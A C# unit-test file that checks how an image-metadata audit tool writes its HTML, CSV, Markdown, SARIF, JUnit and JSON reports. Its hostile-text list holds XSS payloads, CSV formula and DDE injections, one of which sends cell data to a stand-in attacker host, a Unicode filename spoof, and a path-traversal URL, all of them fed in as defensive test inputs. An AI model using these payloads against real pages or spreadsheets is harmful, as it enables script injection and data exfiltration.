using System.Text;
using System.Text.Json;
using System.Text.Json.Serialization;
using System.Text.RegularExpressions;
using System.Xml.Linq;
using ImageKit.Metadata.Reporting;
using ImageKit.Metadata.Text;
using NJsonSchema;

namespace ImageKit.Metadata.Tests.Reporting;

/// <summary>Each format is read back by something that is not ours, and hostile text stays text in all of them.</summary>
public sealed class ReportTests : IDisposable
{
    private static readonly JsonSchema Sarif = LoadSchema();
    private static readonly JsonSerializerOptions Readable = new(JsonSerializerDefaults.Web) { Converters = { new JsonStringEnumConverter() } };

    private readonly string _folder = Directory.CreateTempSubdirectory("report").FullName;

    /// <summary>Strings that break careless writers.</summary>
    public static TheoryData<string> HostileTexts { get; } =
    [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)",
        "javascript:alert(1)",
        "photo\u202Egpj.exe",
        "red \u001b[31mtext\u0007 and a NUL\0 inside",
        "line one\r\nline two\ttab",
        "=HYPERLINK(\"http://attacker.example/?q=\"&A1,\"open\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1", "-1", "\t=1",
        "a | b ` c ``` d * _ [x](javascript:alert(1)) # <b> @everyone",
        "]]> --> <!-- ' \" & \u2028 \ud83d\udcf7",
        "half \ud83d of a pair, and the other \udcf7",
        "\uFFFE\uFFFF\uFEFF",
        "{{constructor.constructor('alert(1)')()}} ${alert(1)} </style><script>",
        "",
    ];

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Theory]
    [MemberData(nameof(HostileTexts))]
    public void Hostile_text_stays_text_in_every_format(string text)
    {
        AuditFinding[] findings =
        [
            Hostile(text, text, AuditSeverity.Error),
            Hostile(text, "https://ik.imagekit.io/demo/" + text, AuditSeverity.Warning),
            Hostile(text, null, AuditSeverity.Information),
            new() { RuleName = "Unreachable", Severity = AuditSeverity.Error, Url = text, Message = text },
            new() { RuleName = "NearDuplicate", Url = text, Message = text, Evidence = { ["Original"] = text, ["Distance"] = 3L } },
        ];
        AuditFinding accepted = Hostile(text, text, AuditSeverity.Error);
        accepted.AcceptedReason = text;

        string html = Write(AuditReportFormat.Html, [.. findings, accepted]);
        Assert.Equal(1, Regex.Count(html, "<script"));
        Assert.Equal(1, Regex.Count(html, "<style"));
        Assert.DoesNotMatch("""<(?!/?(?:html|head|meta|title|link|style|script|body|svg|defs|symbol|path|use|rect|a|div|header|h1|h2|h3|p|nav|ul|li|main|section|dl|dt|dd|span|table|caption|thead|tbody|tr|th|td|time|footer|article|bdi|img|label|input|select|option|fieldset|legend|output|button|details|summary|code|br)[\s>/]|!DOCTYPE)""", Stripped(html));
        Assert.DoesNotMatch("""\s(?:on\w+|style)\s*=\s*["']""", Stripped(html).Replace("&#39; onmouseover=&#39;", "", StringComparison.Ordinal));
        Assert.DoesNotMatch("""(?:href|src)="(?!https?:|#|data:image/svg)""", html);
        IsPrintable(html);

        string digest = Write(AuditReportFormat.Digest, [.. findings, accepted]);
        Assert.DoesNotMatch("<(?!/?(?:html|head|meta|title|body|div|h1|h2|p|a|table|tr|td|b|br|span)[\\s>]|!DOCTYPE)", digest);
        Assert.DoesNotMatch("""href="(?!https?:)""", digest);
        IsPrintable(digest);

        string markdown = Write(AuditReportFormat.Markdown, findings);
        Assert.All(markdown.Split('\n'), line => Assert.True(line.StartsWith('|') ? line.Count(c => c == '|') is 5 or 7 : !line.Contains('|', StringComparison.Ordinal), line));
        Assert.DoesNotMatch("<(?!/?sub>)", markdown);
        Assert.DoesNotContain('`', markdown);
        Assert.DoesNotContain('@', markdown);
        Assert.DoesNotMatch("\\]\\((?!https://ik\\.imagekit\\.io/demo/[A-Za-z0-9%=&;.,/_~?#:-]*\\) )", markdown);
        Assert.DoesNotMatch("(?i)https?:|www\\.|javascript:", Regex.Replace(markdown, "\\]\\([^)]*\\)", "]"));
        IsPrintable(markdown);

        string csv = Write(AuditReportFormat.Csv, findings);
        List<string[]> rows = ReadCsv(csv);
        Assert.Equal(findings.Length + 1, rows.Count);
        Assert.All(rows, row => Assert.Equal(12, row.Length));
        Assert.All(rows.SelectMany(row => row), cell => Assert.DoesNotMatch("^[=+\\-@\t\r]", cell));
        IsPrintable(csv.Replace("\r\n", "\n", StringComparison.Ordinal));

        var junit = XDocument.Parse(Write(AuditReportFormat.JUnit, [.. findings, accepted]));
        Assert.Equal(6 + new Auditor().Rules.Count(rule => rule.IsEnabled) - 2, junit.Descendants("testcase").Count());
        Assert.Equal(ReportText.Printable(text), junit.Descendants("failure").First().Attribute("message")!.Value);

        string sarif = Write(AuditReportFormat.Sarif, [.. findings, accepted]);
        IsValidSarif(sarif);
        using var parsed = JsonDocument.Parse(sarif);
        JsonElement result = parsed.RootElement.GetProperty("runs")[0].GetProperty("results")[0];
        Assert.True(Uri.TryCreate(result.GetProperty("locations")[0].GetProperty("physicalLocation").GetProperty("artifactLocation").GetProperty("uri").GetString(), UriKind.Relative, out _));

        using var json = JsonDocument.Parse(Write(AuditReportFormat.Json, findings));
        Assert.Equal(PlainText.ToWhole(text), json.RootElement.GetProperty("findings")[0].GetProperty("message").GetString());

        using var baseline = JsonDocument.Parse(Write(AuditReportFormat.Baseline, findings));
        Assert.Equal(findings.Length, baseline.RootElement.GetProperty("accepted").GetArrayLength());
    }

    [Fact]
    public void Json_is_read_back_as_findings()
    {
        AuditFinding finding = Sample();
        using var document = JsonDocument.Parse(Write(AuditReportFormat.Json, finding));
        AuditFinding again = document.RootElement.GetProperty("findings")[0].Deserialize<AuditFinding>(Readable)!;
        Assert.Equal((finding.RuleName, finding.Severity, finding.Url, finding.FileId, finding.Message, finding.Recommendation, finding.SavingBytes),
            (again.RuleName, again.Severity, again.Url, again.FileId, again.Message, again.Recommendation, again.SavingBytes));
        Assert.Equal(["Latitude", "Tags"], again.Evidence.Keys);
        Assert.Equal(52.37, ((JsonElement)again.Evidence["Latitude"]!).GetDouble());
        Assert.Equal(1, document.RootElement.GetProperty("summary").GetProperty("warnings").GetInt32());
    }

    [Fact]
    public void Csv_is_read_back()
    {
        List<string[]> rows = ReadCsv(Write(AuditReportFormat.Csv, Sample()));
        Assert.Equal(["RuleName", "Severity", "Url", "FileId", "Message", "Recommendation", "SavingBytes", "AcceptedReason", "Evidence", "FilePath", "BaselineState", "FirstSeen"], rows[0]);
        Assert.Equal(["GpsLocation", "Warning", "https://ik.imagekit.io/demo/a.jpg?updatedAt=1", "abc", "A, \"place\"", "Remove it.", "1234", "", "{\"Latitude\":52.37,\"Tags\":[\"a\",\"b\"]}", "/a.jpg", "Updated", "2026-01-02T03:04:05Z"], rows[1]);
    }

    [Theory]
    [InlineData("a;=1+1", "a;'=1+1")]
    [InlineData("=1;@x;y;-", "'=1;'@x;y;'-")]
    [InlineData("a; b=c", "a; b=c")]
    [InlineData("a;\"=1+1", "a;\"'=1+1")]
    [InlineData("\"\"=1", "\"\"'=1")]
    public void No_cell_begins_a_formula_wherever_a_spreadsheet_divides_it(string text, string cell) =>
        Assert.Equal(cell, ReadCsv(Write(AuditReportFormat.Csv, new AuditFinding { RuleName = "A", Message = text }))[1][4]);

    [Theory]
    [InlineData(AuditReportFormat.Html)]
    [InlineData(AuditReportFormat.Sarif)]
    [InlineData(AuditReportFormat.Csv)]
    [InlineData(AuditReportFormat.Json)]
    [InlineData(AuditReportFormat.Markdown)]
    [InlineData(AuditReportFormat.JUnit)]
    [InlineData(AuditReportFormat.Baseline)]
    [InlineData(AuditReportFormat.Digest)]
    [InlineData(AuditReportFormat.OpenMetrics)]
    public void A_finding_without_evidence_is_written(AuditReportFormat format) =>
        Assert.NotEmpty(Write(format, new AuditFinding { RuleName = "A", Message = "m", Url = "https://x/a.jpg", Evidence = null! }));

    [Fact]
    public void Evidence_comes_back_from_its_text_in_a_csv()
    {
        PropertyBag evidence = FindingJson.ReadBag(ReadCsv(Write(AuditReportFormat.Csv, Sample()))[1][8])!;
        Assert.Equal(52.37, evidence["Latitude"]);
        Assert.Equal(new object?[] { "a", "b" }, evidence["Tags"]);
        Assert.All(new[] { "", "text", "[1]", "{", "{\"a\":" }, text => Assert.Null(FindingJson.ReadBag(text)));
    }

    [Fact]
    public void Sarif_declares_every_rule_suppresses_what_was_accepted_and_keeps_its_fingerprints()
    {
        AuditFinding first = Sample();
        AuditFinding later = Sample();
        later.Url = later.Url!.Replace("updatedAt=1", "updatedAt=2", StringComparison.Ordinal);
        later.Message = "another figure";
        later.AcceptedReason = "a park";
        AuditFinding own = Sample();
        own.RuleName = "MyOwn";
        AuditFinding ownSecond = Sample();
        ownSecond.RuleName = "MyOwn";
        ownSecond.Evidence["Number"] = 2L;
        string text = Write(AuditReportFormat.Sarif, first, later, own, ownSecond);
        IsValidSarif(text);

        using var sarif = JsonDocument.Parse(text);
        JsonElement run = sarif.RootElement.GetProperty("runs")[0];
        string[] rules = [.. run.GetProperty("tool").GetProperty("driver").GetProperty("rules").EnumerateArray().Select(rule => rule.GetProperty("id").GetString()!)];
        Assert.Equal([.. new Auditor().Rules.Select(rule => rule.Name), "MyOwn"], rules);
        JsonElement[] results = [.. run.GetProperty("results").EnumerateArray()];
        string[] prints = [.. results.Select(result => result.GetProperty("partialFingerprints").GetProperty("primaryLocationLineHash").GetString()!)];
        Assert.Equal(prints[0], prints[1]);
        Assert.Equal(3, prints.Distinct().Count());
        Assert.Empty(results[0].GetProperty("suppressions").EnumerateArray());
        Assert.Equal("a park", results[1].GetProperty("suppressions")[0].GetProperty("justification").GetString());
        JsonElement[] places = [.. results.Select(result => result.GetProperty("locations")[0].GetProperty("physicalLocation"))];
        Assert.All(places, place => Assert.Equal("ik.imagekit.io/demo/a.jpg", place.GetProperty("artifactLocation").GetProperty("uri").GetString()));
        Assert.All(places, place => Assert.Equal("""{"startLine":1,"startColumn":1,"endLine":1,"endColumn":1}""", Regex.Replace(place.GetProperty("region").ToString(), "\\s", "")));

        // An upload's category is looked at only where the file has none of its own.
        Assert.False(run.TryGetProperty("automationDetails", out _));
    }

    [Theory]
    [InlineData("https://ik.imagekit.io/demo/a%20b.jpg?tr=w-100&updatedAt=5", "ik.imagekit.io/demo/a%2520b.jpg%3Ftr=w-100")]
    [InlineData("http://localhost:8700/a:b.jpg", "localhost%3A8700/a:b.jpg")]
    [InlineData("nonsense with blanks", "nonsense%20with%20blanks")]
    [InlineData("https://ik.imagekit.io/demo/../../../etc/passwd", "ik.imagekit.io/demo/%252E%252E/%252E%252E/%252E%252E/etc/passwd")]
    [InlineData("..", "%252E%252E")]
    [InlineData("https://ik.imagekit.io/./a..b.jpg", "ik.imagekit.io/%252E/a%252E%252Eb.jpg")]
    [InlineData(null, "file-id/abc")]
    public void Sarif_names_an_image_by_a_path_that_stays(string? url, string path) =>
        Assert.Equal(path, SarifReportWriter.ArtifactPath(new AuditFinding { Url = url, FileId = "abc" }));

    [Fact]
    public void Sarif_keeps_to_the_lengths_that_code_scanning_takes()
    {
        AuditRule rule = new() { Name = new string('n', 2000), Description = new string('d', 2000), Recommendation = "r" };
        string text = WriteTo(Path.Combine(_folder, "long.sarif"), AuditReportFormat.Sarif, new AuditReportOptions(), new AuditResult { Rules = [new AuditRuleResult { Rule = rule }] });
        using var sarif = JsonDocument.Parse(text);
        JsonElement written = sarif.RootElement.GetProperty("runs")[0].GetProperty("tool").GetProperty("driver").GetProperty("rules")[0];
        Assert.Equal(255, written.GetProperty("name").GetString()!.Length);
        Assert.Equal(1024, written.GetProperty("shortDescription").GetProperty("text").GetString()!.Length);
        Assert.Equal(1024, written.GetProperty("fullDescription").GetProperty("text").GetString()!.Length);
    }

    [Fact]
    public void The_schema_refuses_what_is_wrong() =>
        Assert.True(Sarif.Validate("""{ "version": "2.1.0", "runs": [ { "results": [ { "level": "bad" } ] } ] }""").Count > 0);

    [Fact]
    public void A_baseline_accepts_what_it_was_written_from()
    {
        string path = Path.Combine(_folder, "b.json");
        WriteTo(path, AuditReportFormat.Baseline, new AuditReportOptions { Reason = "known", ExpiresOn = new DateTime(2030, 1, 2, 0, 0, 0, DateTimeKind.Utc) }, Sample());
        AuditFinding finding = Sample();
        Assert.True(AuditBaseline.Read(path, new DateTime(2030, 1, 2, 0, 0, 0, DateTimeKind.Utc)).TryAccept(finding));
        Assert.Equal("known", finding.AcceptedReason);
        Assert.False(AuditBaseline.Read(path, new DateTime(2030, 1, 3, 0, 0, 0, DateTimeKind.Utc)).TryAccept(Sample()));
    }

    [Fact]
    public void Every_rule_has_a_title_for_people() =>
        Assert.All(new Auditor().Rules, rule => Assert.NotEqual(rule.Name, RuleTitles.Of(rule.Name)));

    [Fact]
    public void Storage_to_save_counts_a_file_once_and_adds_up_over_the_rules()
    {
        FindingTotals totals = new();
        totals.Add(new AuditFinding { RuleName = "A", Url = "https://x/p/u?updatedAt=1", SavingBytes = 10 });
        totals.Add(new AuditFinding { RuleName = "B", Url = "https://x/p/u", SavingBytes = 30 });
        totals.Add(new AuditFinding { RuleName = "A", Url = "https://x/q/v", SavingBytes = 5 });
        totals.Add(new AuditFinding { RuleName = "A", Url = "https://x/q/w", SavingBytes = 5, AcceptedReason = "yes" });
        totals.Add(new AuditFinding { RuleName = "A", Url = "https://x/q/v?tr=w-9", SavingBytes = 7000 });
        totals.Add(new AuditFinding { RuleName = "C", Url = "https://x/p/u", SavingBytes = 20 });
        totals.Add(new AuditFinding { RuleName = "C", Url = "https://x/q/gone", SavingBytes = 99, BaselineState = AuditBaselineState.Absent });
        Assert.Equal((35, 5, 1), (totals.SavingBytes, totals.Count, totals.AcceptedCount));
        Assert.Equal([("B", 30L), ("A", 5L), ("C", 0L)], totals.Rules.Select(rule => (rule.Name, rule.SavingBytes)).OrderByDescending(rule => rule.SavingBytes));
        Assert.Equal(totals.SavingBytes, totals.Folders.Sum(folder => folder.SavingBytes));
    }

    [Theory]
    [InlineData("/products/shoes/a.jpg", "https://x/ignored/a.jpg", "/products")]
    [InlineData("/a.jpg", null, "/")]
    [InlineData(null, "https://ik.imagekit.io/demo/tr:w-100/products/a.jpg", "/products")]
    [InlineData(null, "https://ik.imagekit.io/demo/a.jpg?tr=x", "/")]
    [InlineData(null, "https://images.example.com/pro%20ducts/a.jpg", "/pro ducts")]
    [InlineData(null, "no address", "/")]
    public void The_top_level_folder_comes_from_the_path_or_the_url(string? path, string? url, string folder) =>
        Assert.Equal(folder, ReportText.TopFolder(new AuditFinding { FilePath = path, Url = url }));

    [Fact]
    public void The_page_lists_the_first_of_each_rule_and_states_how_many_more()
    {
        AuditFinding[] findings = [.. Enumerable.Range(0, 500).Select(i => new AuditFinding { RuleName = i % 5 == 0 ? "Few" : "Many", Url = $"https://ik.imagekit.io/demo/{i}.jpg", Message = "x" })];
        string html = Write(AuditReportFormat.Html, findings);
        Assert.Equal(200, Regex.Count(html, "data-rule="));
        Assert.Equal(100, Regex.Count(html, "class=\"later\" data-severity="));
        Assert.Contains("300 more (300 of Many) are in the CSV or JSON report", html, StringComparison.Ordinal);
        Assert.Contains(">400</td>", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<template", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Thumbnails_come_from_the_library_only_and_can_be_off()
    {
        string html = Write(AuditReportFormat.Html, new AuditFinding { RuleName = "A", Url = "https://ik.imagekit.io/demo/a.jpg?tr=w-9", Message = "x" });
        Assert.Contains("src=\"https://ik.imagekit.io/demo/a.jpg?tr=w-9:w-160,h-160,c-at_max\"", html, StringComparison.Ordinal);
        Assert.Contains("img-src data: https://ik.imagekit.io; base-uri", html, StringComparison.Ordinal);
        Assert.Contains("loading=\"lazy\"", html, StringComparison.Ordinal);

        string path = Path.Combine(_folder, "none.html");
        string without = WriteTo(path, AuditReportFormat.Html, new AuditReportOptions { NoThumbnail = true }, new AuditFinding { RuleName = "A", Url = "https://ik.imagekit.io/demo/a.jpg", Message = "x" });
        Assert.DoesNotContain("<img", without, StringComparison.Ordinal);
        Assert.Contains("img-src data:; base-uri", without, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("https://images.example.com/a.jpg", true)]
    [InlineData("http://ik.imagekit.io/demo/a.jpg", false)]
    [InlineData("https://localhost/a.jpg", false)]
    [InlineData("https://printer.local/a.jpg", false)]
    [InlineData("https://wiki.internal/a.jpg", false)]
    [InlineData("https://intranet/a.jpg", false)]
    [InlineData("https://10.0.0.1/a.jpg", false)]
    [InlineData("https://2130706433/a.jpg", false)]
    [InlineData("https://0x7f.1/a.jpg", false)]
    [InlineData("https://[::1]/a.jpg", false)]
    [InlineData("http://127.0.0.1:8700/a.jpg", true)]
    [InlineData("http://127.0.0.1:8701/a.jpg", false)]
    [InlineData("https://127.0.0.1:8700/a.jpg", false)]
    public void Thumbnails_come_over_https_from_public_names_or_from_the_local_service(string url, bool isLoaded)
    {
        Thumbnails thumbnails = new(new AuditReportOptions { LocalService = new Uri("http://127.0.0.1:8700/v1") });
        Assert.Equal(isLoaded, thumbnails.AddressOf(url) is not null);
        Assert.Equal(isLoaded, thumbnails.Sources != "data:");
    }

    [Fact]
    public void A_service_that_is_not_on_this_machine_adds_no_origin() =>
        Assert.Null(new Thumbnails(new AuditReportOptions { LocalService = new Uri("http://10.0.0.1/") }).AddressOf("http://10.0.0.1/a.jpg"));

    [Fact]
    public void A_page_without_findings_states_why()
    {
        AuditResult empty = new();
        Assert.Contains("Nothing was audited", WriteTo(Path.Combine(_folder, "nothing.html"), AuditReportFormat.Html, new AuditReportOptions(), empty), StringComparison.Ordinal);
        Assert.Contains("No findings: every rule passed.", Write(AuditReportFormat.Html), StringComparison.Ordinal);

        AuditResult incomplete = new() { ImageCount = 1, NotCheckedCount = 2, FailedByError = { ["ServerError"] = 2L } };
        string html = WriteTo(Path.Combine(_folder, "incomplete.html"), AuditReportFormat.Html, new AuditReportOptions(), incomplete);
        Assert.Contains("No findings, but not everything could be checked", html, StringComparison.Ordinal);
        Assert.Contains("2 images were not checked", html, StringComparison.Ordinal);
        Assert.DoesNotContain("every rule passed", html, StringComparison.Ordinal);
    }

    [Fact]
    public void A_folder_that_is_not_there_or_in_the_way_is_named()
    {
        string lost = Path.Combine(_folder, "lost");
        Assert.Contains($"'{lost}'", Assert.Throws<DirectoryNotFoundException>(() => new AuditReport(Path.Combine(lost, "r.csv"), AuditReportFormat.Csv)).Message, StringComparison.Ordinal);
        Assert.Contains("is a folder", Assert.Throws<IOException>(() => new AuditReport(_folder, AuditReportFormat.Csv)).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_report_is_whole_or_not_there()
    {
        string path = Path.Combine(_folder, "r.json");
        File.WriteAllText(path, "old");
        using (AuditReport report = new(path, AuditReportFormat.Json))
        {
            report.Add(Sample());
            Assert.Equal("old", File.ReadAllText(path));
        }

        Assert.Equal("old", File.ReadAllText(path));
        Assert.Single(Directory.GetFiles(_folder));
        WriteTo(path, AuditReportFormat.Json, new AuditReportOptions(), Sample());
        Assert.StartsWith("{", File.ReadAllText(path), StringComparison.Ordinal);
        Assert.Single(Directory.GetFiles(_folder));
    }

    [Theory]
    [InlineData("a.HTML", AuditReportFormat.Html)]
    [InlineData("a.sarif", AuditReportFormat.Sarif)]
    [InlineData("a.sarif.json", AuditReportFormat.Sarif)]
    [InlineData("a.baseline.json", AuditReportFormat.Baseline)]
    [InlineData("a.json", AuditReportFormat.Json)]
    [InlineData("a.csv", AuditReportFormat.Csv)]
    [InlineData("a.md", AuditReportFormat.Markdown)]
    [InlineData("a.xml", AuditReportFormat.JUnit)]
    [InlineData("a.digest.html", AuditReportFormat.Digest)]
    [InlineData("a.prom", AuditReportFormat.OpenMetrics)]
    [InlineData("a.txt", null)]
    [InlineData("json", null)]
    public void The_file_extension_decides_the_format(string name, AuditReportFormat? format) => Assert.Equal(format, AuditReport.FormatOf(name));

    private static AuditFinding Sample() => new()
    {
        RuleName = "GpsLocation",
        Severity = AuditSeverity.Warning,
        Url = "https://ik.imagekit.io/demo/a.jpg?updatedAt=1",
        FileId = "abc",
        FilePath = "/a.jpg",
        BaselineState = AuditBaselineState.Updated,
        FirstSeen = new DateTime(2026, 1, 2, 3, 4, 5, DateTimeKind.Utc),
        Message = "A, \"place\"",
        Recommendation = "Remove it.",
        SavingBytes = 1234,
        Evidence = { ["Latitude"] = 52.37, ["Tags"] = new object?[] { "a", "b" } },
    };

    private static AuditFinding Hostile(string text, string? url, AuditSeverity severity) => new()
    {
        RuleName = "R" + text,
        Severity = severity,
        Url = url,
        FileId = text,
        Message = text,
        Recommendation = text,
        Evidence = { ["k" + text] = text, ["list"] = new object?[] { text, null, double.NaN, 1L } },
    };

    internal static void IsValidSarif(string text)
    {
        Assert.Empty(Sarif.Validate(text).Select(error => error.ToString()));
    }

    private static JsonSchema LoadSchema()
    {
        using StreamReader reader = new(typeof(ReportTests).Assembly.GetManifestResourceStream("sarif-2.1.0.json")!);
        return JsonSchema.FromJsonAsync(reader.ReadToEnd()).GetAwaiter().GetResult();
    }

    private static void IsPrintable(string text) =>
        Assert.DoesNotMatch("[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069\u200E\u200F\u2028\u2029\uD800-\uDBFF](?![\uDC00-\uDFFF])", text);

    /// <summary>The page without its own style and script.</summary>
    private static string Stripped(string html) => Regex.Replace(html, "(?s)<(style|script)>.*?</\\1>", "");

    /// <summary>RFC 4180, to the letter.</summary>
    private static List<string[]> ReadCsv(string text)
    {
        List<string[]> rows = [];
        List<string> row = [];
        StringBuilder cell = new();
        bool quoted = false;
        for (int i = text[0] == '\uFEFF' ? 1 : 0; i < text.Length; i++)
        {
            char c = text[i];
            if (quoted)
            {
                if (c != '"')
                {
                    cell.Append(c);
                }
                else if (i + 1 < text.Length && text[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else
                {
                    quoted = false;
                    Assert.True(text[i + 1] is ',' or '\r');
                }
            }
            else if (c == '"')
            {
                Assert.Equal(0, cell.Length);
                quoted = true;
            }
            else if (c is ',' or '\r')
            {
                row.Add(cell.ToString());
                cell.Clear();
                if (c == '\r')
                {
                    Assert.Equal('\n', text[++i]);
                    rows.Add([.. row]);
                    row.Clear();
                }
            }
            else
            {
                cell.Append(c);
            }
        }

        Assert.Empty(row);
        return rows;
    }

    private string Write(AuditReportFormat format, params AuditFinding[] findings) =>
        WriteTo(Path.Combine(_folder, "report." + format), format, new AuditReportOptions(), findings);

    private static string WriteTo(string path, AuditReportFormat format, AuditReportOptions options, params AuditFinding[] findings)
    {
        Auditor auditor = new();
        auditor.Check(Faultless());
        return WriteTo(path, format, options, auditor.Result, findings);
    }

    private static string WriteTo(string path, AuditReportFormat format, AuditReportOptions options, AuditResult? result, params AuditFinding[] findings)
    {
        using AuditReport report = new(path, format, options);
        report.Add(Faultless());
        foreach (AuditFinding finding in findings)
        {
            report.Add(finding);
        }

        report.Complete(result);
        return new UTF8Encoding(false, throwOnInvalidBytes: true).GetString(File.ReadAllBytes(path));
    }

    /// <summary>An image that every rule can check, and none finds anything in.</summary>
    private static ImageMetadata Faultless() => new()
    {
        Url = "https://ik.imagekit.io/demo/good.jpg",
        Format = "jpg",
        Size = 20_000,
        Width = 300,
        Height = 200,
        Quality = 80,
        Density = 72,
        HasColorProfile = true,
        HasTransparency = false,
        PHash = "f0e1d2c3b4a59687",
    };
}
